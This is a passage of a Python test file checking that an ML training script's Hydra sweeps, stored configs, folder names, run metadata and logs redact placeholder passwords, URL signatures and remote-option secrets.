            (["data=the_verdict", f"data.url={url}"], ["data=shards", f"data.path={url}", "data.remote.retries=1"])
        ):
            folder = f"run{number}"
            done = script("train.py", *SMALL, *changes, "+data.remote.options.secret=OPTIONSECRET1", f"hydra.run.dir={folder}")
            assert done.returncode == 2
            seen = texts_below(tmp_path / folder) | {"output": (done.stdout + done.stderr).encode()}
            assert {name for name, content in seen.items() if any(secret.encode() in content for secret in SECRETS)} == set()


TYPED = ["data.url=http://user:PASSWORD1@host/t.txt?sig=SIGNATURE1", "+data.remote.options.secret=OPTIONSECRET1", "seed=1,2"]


def test_a_sweep_is_stored_and_named_without_secrets() -> None:
    settings = {
        "data": {"url": TYPED[0].partition("=")[2], "remote": {"options": {"secret": "OPTIONSECRET1", "anon": True}}},
        "seed": 1,
        "hydra": {
            "overrides": {"task": TYPED, "hydra": []},
            "job": {"override_dirname": ",".join(TYPED)},
            "run": {"dir": "${x:y}"},
        },
    }
    stored = OmegaConf.to_yaml(cut_sweep_settings(OmegaConf.create(settings)))
    assert not any(secret in stored for secret in SECRETS), stored
    assert "${x:y}" in stored and "anon: true" in stored and "sig=***" in stored
    unchanged = OmegaConf.create({"data": {"url": "http://host/t.txt"}, "hydra": {}})
    assert cut_sweep_settings(unchanged) is unchanged
    names = {job_folder_name([TYPED[0], "seed=1"]), job_folder_name([TYPED[0].replace("SIGN", "sign"), "seed=1"])}
    assert len(names) == 2
    assert not any(secret in name for secret in SECRETS for name in names)


@pytest.mark.parametrize(
    "urls",
    [
        ["http://user:PASSWORD1@PLACE"],
        ["http://user:PASSWORD1@PLACE", "http://user:SIGNATURE1@PLACE"],
        ["'http://PLACE?X-Amz-Signature=SIGNATURE1'", "'http://user:PASSWORD1@PLACE?X-Amz-Signature=SIGNATURE1'"],
    ],
    ids=["one", "two", "quoted"],
)
def test_secrets_are_in_no_file_and_no_name_of_a_sweep(
    script: Script, stranger: Stranger, tmp_path: Path, urls: list[str]
) -> None:
    stranger.files["/t.txt"] = ("Every effort moves you. " * 400).encode()
    swept = "seed=1" if len(urls) > 1 else "seed=1,2"
    typed = f"data.url={','.join(urls)}".replace("PLACE", f"127.0.0.1:{stranger.server_port}/t.txt")
    options = ["data=the_verdict", "data.sha256=null", f"data.cache_dir={tmp_path / 'cache'}", swept]
    done = script("train.py", "-m", *SMALL, *options, typed, "hydra.sweep.dir=sweep")
    assert done.returncode == 0, done.stderr
    sweep = tmp_path / "sweep"

    def places_of_secrets(output: str) -> set[str]:
        found = texts_below(sweep, tmp_path / "cache")
        found |= {"output": output.encode(), "names": "\n".join(map(str, sweep.rglob("*"))).encode()}
        return {name for name, content in found.items() if any(secret.encode() in content for secret in SECRETS)}

    assert places_of_secrets(done.stdout + done.stderr) == set()
    jobs = set(sweep.glob("*/run.json"))
    assert len(jobs) == 2
    resumed = script("train.py", "sweep_resume=sweep")
    assert resumed.returncode == 2
    assert "Type it again" in resumed.stderr and "data.url=" in resumed.stderr
    again = script("train.py", "sweep_resume=sweep", typed)
    assert again.returncode == 0, again.stderr
    assert set(sweep.glob("*/run.json")) == jobs
    assert places_of_secrets(resumed.stdout + resumed.stderr + again.stdout + again.stderr) == set()


def test_options_that_a_sweep_varies_are_not_stored() -> None:
    typed = [
        "start_context=a",
        "+data.remote.options.secret=OPTIONSECRET1,PASSWORD1",
        "data.url=http://h/x,s3://k:SIGNATURE1@b/x",
    ]
    settings = {"data": {}, "hydra": {"overrides": {"task": typed, "hydra": []}, "job": {"override_dirname": ",".join(typed)}}}
    stored = OmegaConf.to_yaml(cut_sweep_settings(OmegaConf.create(settings)))
    assert not any(secret in stored for secret in SECRETS), stored
    assert "data.url=http://h/x,s3://***@b/x" in stored


def test_a_run_of_an_earlier_version_is_shown_without_secrets(tmp_path: Path) -> None:
    url = TYPED[0].partition("=")[2]
    settings = {"data": {"url": url, "remote": {"options": {"secret": "OPTIONSECRET1"}}}, "seed": 1}
    (tmp_path / "config.yaml").write_text(OmegaConf.to_yaml(settings))
    (tmp_path / "run.json").write_text(
        json.dumps({"command": shlex.join(["python", *TYPED]), "overrides": TYPED, "state": "finished"})
    )
    run = read_run(tmp_path)
    assert not any(secret in f"{run.config_text} {run.config} {run.metadata}" for secret in SECRETS)
    assert run.config["seed"] == "1" and run.config["data.url"] == "http://***@host/t.txt?sig=***"
    assert "OPTIONSECRET1" not in save_run_page(tmp_path).read_text()


def test_metadata_of_an_earlier_version_is_shown_without_secrets() -> None:
    command = shlex.join(["python", "train.py", *TYPED, "+data.remote.options.anon=true"])
    before = {"command": command, "overrides": TYPED, "data": {"path": TYPED[0].partition("=")[2]}, "seconds": 3.0}
    after = metadata_without_secrets(before)
    assert not any(secret in json.dumps(after) for secret in SECRETS), after
    assert "data.remote.options.anon=true" in after["command"] and after["overrides"][2] == "seed=1,2"
    assert after["seconds"] == 3.0
